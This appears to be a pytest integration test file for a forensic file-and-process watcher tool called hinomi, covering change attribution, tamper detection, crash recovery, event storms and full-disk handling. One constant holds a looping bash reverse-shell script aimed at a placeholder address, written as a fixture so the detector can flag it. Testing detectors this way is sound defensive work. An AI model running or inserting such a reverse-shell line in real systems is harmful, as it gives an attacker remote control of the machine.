"""The watcher as a whole, on a real kernel: who, what, gaps, and nothing lost."""

from __future__ import annotations

import hashlib
import json
import multiprocessing
import os
import random
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from hinomi.store.case import Case

from .conftest import ATTEMPTS

Start = Callable[..., Any]
DROPPED = "#!/bin/sh\nwhile :; do\n  bash -i >& /dev/tcp/203.0.113.77/8443 0>&1\n  sleep 60\ndone\n"


def tree(folder: Path) -> dict[str, str | None]:
    """What stands in a folder now, by path: digest, None for folders."""
    found: dict[str, str | None] = {}
    for path in folder.rglob("*"):
        found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else None
    return found


def test_a_change_says_who_and_is_judged(place: Path, watching: Start) -> None:
    for number in range(ATTEMPTS):
        (place / f"old{number}").write_text("before")
    (place / "sub").mkdir()
    watch = watching().ready()

    def move(number: int) -> dict[str, Any]:
        old, new = f"old{number}", f"sub/new{number}"
        subprocess.run(["sh", "-c", f"echo after > '{place}/{old}'; mv '{place}/{old}' '{place}/{new}'"], check=True)
        moved = watch.change(new, "added")
        assert moved["new_sha256"] == hashlib.sha256(b"after\n").hexdigest() and moved["found_by"] == "event"
        return dict(watch.change(old, "removed"))

    gone = watch.unless_lost(move, lambda told: (told["process"] or told["exe"] or "").endswith("mv"))
    assert gone["old_sha256"] == hashlib.sha256(b"before").hexdigest()
    assert os.getpid() in gone["ancestor_pids"], "the way up to whoever began it"

    script = place / "sub" / "any-name"
    script.write_text(DROPPED)
    script.chmod(0o755)
    found = watch.finding("reverse-shell-script", str(script))
    assert found["attributes"]["changed_by"]["pid"] == os.getpid()
    assert found["attributes"]["process_tree"][-1]["exe"] == os.path.realpath(f"/proc/{os.getpid()}/exe")

    evidence = next((watch.case / "watch").glob("*.rows"))
    with evidence.open("ab") as file:  # somebody else's hand in our own evidence
        file.write(b"\n")
    assert watch.finding("watcher-tampered", str(evidence))["severity"] == "high"
    with subprocess.Popen(["sh", "-c", "read _; :", str(place)], stdin=subprocess.PIPE) as living:
        watch.until(lambda: [s for s in watch.lines("start") if str(place) in s["cmdline"]], "the start of a program")
        living.communicate(b"\n")
    watch.stop()
    with Case.open(watch.case) as case:
        ended = case.journal.entries()[-1]
        assert ended.event == "watch-stopped" and json.loads(ended.body)["by_pid"] == os.getpid()
        assert case.journal.broken_at() is None
        (run,) = [r for r in case.runs() if r.kind == "watch"]
        assert {"file_changes", "files", "processes"} <= case.tables(run.id).keys(), "evidence as of any scan"
        assert case.gaps.listed(only_open=True) == []


def test_a_second_watcher_is_told_who_has_the_case(place: Path, watching: Start) -> None:
    first = watching("--no-processes").ready()
    second = watching()
    assert second.ended() == 2
    assert f"pid {first.process.pid} since 20" in second.said


def test_what_happened_while_nobody_watched_is_told_at_the_next_start(place: Path, watching: Start) -> None:
    for name in ("stays", "goes", "grows"):
        (place / name).write_text(name)
    first = watching("--no-processes").ready()
    first.stop()
    assert first.changes() == [], "the first look is no change"
    (place / "goes").unlink()
    (place / "grows").write_text("grown")
    (place / "new").mkdir()
    (place / "new" / "script").write_text(DROPPED)
    again = watching("--no-processes").ready()
    told = {c["path"].removeprefix(f"{place}/"): (c["what"], c["found_by"]) for c in again.changes()}
    assert told == {
        "goes": ("removed", "reconcile"), "grows": ("changed", "reconcile"), "new": ("added", "reconcile"),
        "new/script": ("added", "reconcile"),
    }  # fmt: skip
    (gap,) = again.gaps("watcher-stopped")
    assert gap["changes"] == 4 and gap["place"] == str(place)
    assert again.finding("reverse-shell-script")["new"]
    again.stop()
    third = watching("--no-processes").ready()
    assert third.changes() == [], "told once"


def _write(folder: Path, seed: int) -> None:
    choose = random.Random(seed)
    for number in range(10_000):
        path = folder / f"{choose.randrange(300)}"
        if choose.random() < 0.2:
            path.unlink(missing_ok=True)
        else:
            path.write_text(f"{seed} {number}")
        if number % 10 == 0:
            time.sleep(0.002)


def test_killed_at_any_moment_nothing_is_lost(place: Path, watching: Start) -> None:
    state: dict[str, Any] = {}
    writer = multiprocessing.get_context("fork").Process(target=_write, args=(place, 1))
    outputs = []
    for wait in (0.3, 1.1):
        watch = watching("--no-processes").ready()
        if not outputs:
            writer.start()
        outputs.append(watch)
        time.sleep(wait)
        os.kill(watch.process.pid, signal.SIGKILL)
        watch.process.wait()
    writer.join()
    last = watching("--no-processes").ready()
    last.stop()
    for watch in (*outputs, last):
        for change in watch.changes():
            if change["what"] in ("added", "changed"):
                state[change["path"]] = change["new_sha256"]
            else:
                state.pop(change["path"], None)
    assert state == tree(place)
    with Case.open(last.case) as case:
        assert case.runs("running") == [], "what was cut off has been saved or marked"
        assert [e.event for e in case.journal.entries()].count("run-recovered") >= 1
        kept = {row["path"] for row in _rows(case, "file_changes")}
        told = {c["path"] for watch in outputs for c in watch.changes()}
        assert told <= kept, "everything that was told is in the evidence"
        assert case.journal.broken_at() is None


def _rows(case: Case, table: str) -> Iterator[dict[str, Any]]:
    import pyarrow.parquet as pq

    for run in case.runs():
        for path in case.tables(run.id).get(table, ()):
            yield from pq.read_table(path).to_pylist()


def _storm(folder: Path, number: int) -> None:
    own = folder / str(number)
    own.mkdir()
    for n in range(400):
        path = own / f"f{n}"
        path.write_text(f"{number} {n}")
        if n % 5 == 0:
            path.rename(own / f"r{n}")
        elif n % 7 == 0:
            path.unlink()
        elif n % 3 == 0:
            path.chmod(0o600)


@pytest.mark.parametrize("config", ["", "[watch]\nmax_pending = 150\nunlimited_queue = false\n"])
def test_a_storm_is_told_or_a_stated_gap(place: Path, watching: Start, config: str) -> None:
    watch = watching("--no-processes", config=config).ready()
    for storm in range(ATTEMPTS if config else 1):
        watch.process.send_signal(signal.SIGSTOP)  # however slow the makers are, nothing is judged meanwhile
        makers = [
            multiprocessing.get_context("fork").Process(target=_storm, args=(place, 6 * storm + n)) for n in range(6)
        ]
        for maker in makers:
            maker.start()
        for maker in makers:
            maker.join()
        watch.process.send_signal(signal.SIGCONT)
        (place / f"end{storm}").write_text("end")
        watch.change(f"end{storm}")
        watch.until(lambda: watch.state() == tree(place), "the last state of everything is told")
        if watch.gaps("too-many-waiting"):
            break
    assert bool(config) == bool(watch.gaps("too-many-waiting"))
    assert all(gap["number"] > 0 for gap in watch.gaps("too-many-waiting"))
    watch.stop()
    with Case.open(watch.case) as case:
        assert case.gaps.listed(only_open=True) == []


def _short_lived(program: str, number: int, pids: Any) -> None:
    for _ in range(number):
        pid = os.posix_spawn(program, [program], {})
        os.waitpid(pid, 0)
        pids.put(pid)


def test_every_short_lived_process_is_told_or_a_stated_gap(place: Path, watching: Start) -> None:
    program = place / "short"
    shutil.copy("/bin/true", program)
    watch = watching().ready()
    fork = multiprocessing.get_context("fork")
    pids = fork.SimpleQueue()
    makers = [fork.Process(target=_short_lived, args=(str(program), 100, pids)) for _ in range(4)]
    for maker in makers:
        maker.start()
    made = {pids.get() for _ in range(400)}
    for maker in makers:
        maker.join()
    parents = {maker.pid for maker in makers}

    def told() -> bool:
        starts = [start for start in watch.lines("start") if start["pid"] in made]  # others' may wear a number after
        ours = [start for start in starts if start["ppid"] in parents or start["exe"] in (str(program), None)]
        assert all(start["exe"] in (str(program), None) for start in ours), "never taken for another program"
        covered = any("process" in gap["reason"] or "starts" in gap["reason"] for gap in watch.gaps(""))
        return covered or {start["pid"] for start in ours} == made

    watch.until(told, "every program that was started")
    watch.stop()
    with Case.open(watch.case) as case:
        assert case.gaps.listed(only_open=True) == []


def test_a_folder_that_is_moved_away_takes_all_in_it_along(place: Path, tmp_path: Path, watching: Start) -> None:
    (place / "a" / "deep").mkdir(parents=True)
    for number in range(30):
        (place / "a" / "deep" / str(number)).write_text("x")
    watch = watching("--no-processes").ready()
    (place / "a").rename(place / "b")
    watch.until(lambda: watch.state() == tree(place), "what stands under the new name")
    old = {str(place / "a"), str(place / "a" / "deep"), *(str(place / f"a/deep/{n}") for n in range(30))}
    watch.until(lambda: {c["path"] for c in watch.changes() if c["what"] == "removed"} == old, "all is gone")
    told = [c["path"] for c in watch.changes() if c["what"] == "removed"]
    assert len(told) == len(old) and told[-1] == str(place / "a"), "each once, and the folder last"
    watch.stop()


def test_a_full_disk_stops_writing_says_so_and_goes_on(place: Path, tmp_path: Path, watching: Start) -> None:
    case = tmp_path / "case"
    case.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=32m", "none", str(case)], check=False).returncode:
        pytest.skip("cannot mount a small file system here")
    try:
        watch = watching("--no-processes").ready()
        filler = case / "filler"
        with filler.open("wb", buffering=0) as file, pytest.raises(OSError, match="No space"):
            while True:
                file.write(bytes(1 << 16))
        (place / "unseen").write_text("x")
        watch.until(lambda: "The disk is full" in watch.said, "it says that the disk is full")
        filler.unlink()
        assert watch.change("unseen")["what"] == "added"
        watch.until(lambda: watch.gaps("disk-full"), "the time of the full disk is stated")
        watch.stop()
    finally:
        subprocess.run(["umount", "-l", str(case)], check=False)


@pytest.mark.parametrize("backend", ["inotify", "polling"])
def test_without_fanotify_changes_are_found_all_the_same(place: Path, watching: Start, backend: str) -> None:
    watch = watching("--no-processes", "--backend", backend, config="[watch]\npoll_seconds = 0.5\n").ready()
    (place / "deep").mkdir()
    (place / "deep" / "er").mkdir()
    (place / "deep" / "er" / "file").write_text("x")
    found = watch.change("deep/er/file")
    assert found["pid"] is None
    (place / "deep" / "er" / "file").write_text("longer")
    watch.until(lambda: watch.state() == tree(place), "the last state")
    status = subprocess.run(
        [sys.executable, "-c", "from hinomi.cli.main import main; main()", "watch", "status", "--case", str(watch.case),
         "--format", "json"], capture_output=True, check=False,
    )  # fmt: skip
    told = json.loads(status.stdout)
    assert told["running"] and told["backend"] == backend and not told["tells_who"]
    assert status.returncode == (3 if backend == "polling" else 0), "what is not heard of is said"
